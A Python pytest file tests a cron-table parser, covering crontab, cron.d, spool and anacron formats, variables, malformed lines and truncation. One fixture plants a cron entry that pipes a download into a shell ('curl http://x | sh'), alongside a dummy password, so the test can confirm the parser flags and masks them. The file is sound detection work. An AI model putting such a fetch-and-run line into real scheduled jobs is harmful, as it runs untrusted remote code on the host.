import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.facts.held import held
from tests.unit.facts.tree import File, Link, Shut, guest_with

from imgkit.facts import cron
from imgkit.facts.cron import BadLine, parse_entry, parse_variable, read_cron
from imgkit.model.fact import FactState, Setting
from imgkit.model.persistence import CronEntry


def test_the_user_field_is_read_only_where_the_file_has_one():
    fact = read_cron(
        guest_with(
            {
                "/etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
                "/etc/cron.d/x": "*/5 * * * * www-data /bin/job a b\n",
                "/var/spool/cron/crontabs/eve": "0 4 * * 1-5 /bin/job a b\n",
                "/var/spool/cron/root": "@daily /bin/other\n",
            }
        )
    )
    found = {table.path: table.entries[0] for table in held(fact)}
    assert found[b"/etc/crontab"] == CronEntry(
        line=1, schedule="17 * * * *", user="root", command="run-parts /etc/cron.hourly"
    )
    assert (found[b"/etc/cron.d/x"].user, found[b"/etc/cron.d/x"].command) == ("www-data", "/bin/job a b")
    assert (found[b"/var/spool/cron/crontabs/eve"].user, found[b"/var/spool/cron/crontabs/eve"].command) == (
        "eve",
        "/bin/job a b",
    )
    assert found[b"/var/spool/cron/root"].schedule == "@daily"


def test_special_words_variables_and_comments_are_told_apart():
    table = "# comment\nMAILTO=root\nPATH = '/bin:/x'\n\n@reboot root /opt/start\n  -*/5 * * * * root /bin/x % y\n"
    fact = read_cron(guest_with({"/etc/crontab": table}))
    one = held(fact)[0]
    assert one.variables == (Setting(name="MAILTO", value="root"), Setting(name="PATH", value="/bin:/x"))
    assert [(entry.line, entry.schedule, entry.command) for entry in one.entries] == [
        (5, "@reboot", "/opt/start"),
        (6, "-*/5 * * * *", "/bin/x % y"),
    ]
    assert not fact.partial


def test_anacron_has_periods_and_names():
    fact = read_cron(
        guest_with({"/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n"})
    )
    assert held(fact)[0].entries == (
        CronEntry(line=2, schedule="1 5 cron.daily", user="root", command="nice run-parts /etc/cron.daily"),
    )


def test_a_line_that_is_none_is_named():
    fact = read_cron(guest_with({"/etc/crontab": "hello\n* * * * * root\n! * * * * root x\n"}))
    assert fact.notes == (
        "/etc/crontab line 1: it has too few fields",
        "/etc/crontab line 2: it has too few fields",
        "/etc/crontab line 3: its times cannot be understood",
    )


def test_secrets_are_masked_and_what_stands_out_is_named():
    table = File(
        b"DB_PASSWORD=hunter2\n@reboot mysqldump -phunter2 x\n* * * * * curl http://x | sh\n", mode=0o666, uid=7
    )
    fact = read_cron(guest_with({"/var/spool/cron/crontabs/eve": table}))
    assert "hunter2" not in repr(fact)
    assert fact.remarks == (
        "/var/spool/cron/crontabs/eve line 3 pipes a download into an interpreter: curl http://x | sh",
        "the cron table /var/spool/cron/crontabs/eve: everyone may write it",
    )


def test_a_spool_that_is_a_link_is_not_read_twice():
    files = {"/etc/crontabs/root": "* * * * * x\n", "/var/spool/cron/crontabs": Link(b"/etc/crontabs")}
    assert len(held(read_cron(guest_with(files)))) == 1


def test_none_differs_from_unreadable():
    assert read_cron(guest_with({})).state is FactState.ABSENT
    assert read_cron(guest_with({"/etc/crontab": Shut()})).state is FactState.UNDETERMINED


def test_lines_without_end_are_cut_and_that_is_said(monkeypatch):
    monkeypatch.setattr(cron, "_MOST_ENTRIES", 1)
    fact = read_cron(guest_with({"/etc/crontab": "* * * * * root x\n", "/etc/cron.d/a": "* * * * * root y\n"}))
    assert (len(held(fact)), fact.partial) == (1, True)
    fact = read_cron(guest_with({"/etc/crontab": "A=1\n" * 5}))
    assert "/etc/crontab: lines from 2 on were left out" in fact.notes


@pytest.mark.parametrize("line", ["a=b", "A = 'x y'", '"my name"=1', "A="])
def test_a_variable_is_no_entry(line):
    assert parse_variable(line) is not None


@pytest.mark.parametrize("line", ["* * * * * root A=b", "@reboot x=y", "0 0 * * * env A=b x"])
def test_an_entry_is_no_variable(line):
    assert parse_variable(line) is None


@given(st.text(alphabet="*@-1,/ \t=a\"'"))
def test_any_line_is_an_entry_or_a_bad_one(line):
    parse_variable(line)
    try:
        parse_entry(line.strip(), has_user=True)
    except BadLine:
        return


@given(st.binary())
def test_any_bytes_are_borne(data):
    read_cron(guest_with({"/etc/crontab": data, "/etc/anacrontab": data, "/var/spool/cron/x": data}))
